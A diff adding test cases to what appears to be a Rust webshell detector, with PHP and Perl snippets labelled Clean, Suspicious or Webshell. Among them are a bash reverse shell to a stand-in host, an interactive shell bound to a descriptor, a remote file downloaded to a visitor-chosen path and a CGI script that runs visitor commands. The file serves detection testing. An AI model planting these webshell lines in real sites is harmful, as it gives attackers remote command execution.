@@ -49,6 +49,14 @@ fn weights() {
         ("<?php exec('ls -la');", Verdict::Clean),
         ("<?php exec('id; uname -a');", Verdict::Suspicious),
         ("<?php exec('bash -i >& /dev/tcp/192.0.2.1/1 0>&1');", Verdict::Webshell),
+        ("<?php exec('/bin/sh -i <&3 >&3 2>&3');", Verdict::Webshell),
+        ("<?php exec('sort <&3');", Verdict::Clean),
+        // Only what would begin a second command is taken away.
+        ("<?php exec(escapeshellcmd($_GET['a']));", Verdict::Webshell),
+        ("<?php exec(escapeshellcmd('ls ' . $_GET['a']));", Verdict::Clean),
+        // From another machine, under the visitor's name.
+        ("<?php file_put_contents($_GET['a'], file_get_contents('http://192.0.2.1/b'));", Verdict::Webshell),
+        ("<?php file_put_contents('cache/' . $_GET['a'], file_get_contents('http://192.0.2.1/b'));", Verdict::Clean),
         // The file's own name is what is called.
         ("<?php $f = basename(__FILE__, '.php'); $f($_POST['c']);", Verdict::Webshell),
         // Data that is run.
@@ -59,6 +67,17 @@ fn weights() {
         let report = seen(text);
         assert_eq!(report.verdict, verdict, "{text} {report:?}");
     }
+}
+
+#[test]
+fn commands_behind_others() {
+    let perl = b"#!/usr/bin/perl\nuse CGI; $q = CGI->new; $d = $q->param('d'); $c = $q->param('c'); open(F, \"cd $d && $c |\");";
+    assert_eq!(seen_at("a.cgi", perl).verdict, Verdict::Webshell);
+    let argument = |report: &Report| report.findings.first().map(|finding| finding.argument.to_string());
+    let php = seen("<?php exec('cd ' . $_GET['a'] . '; ' . $_GET['b'] . ' 2>&1');");
+    assert_eq!((php.verdict, argument(&php).as_deref()), (Verdict::Webshell, Some("cd …; … 2>&1")));
+    let php = seen("<?php exec('convert ' . $_GET['a'] . ' -o ' . $_GET['b']);");
+    assert_eq!((php.verdict, argument(&php).as_deref()), (Verdict::Suspicious, Some("convert … -o …")));
 }
 
 fn seen_at(path: &str, bytes: &[u8]) -> Report {
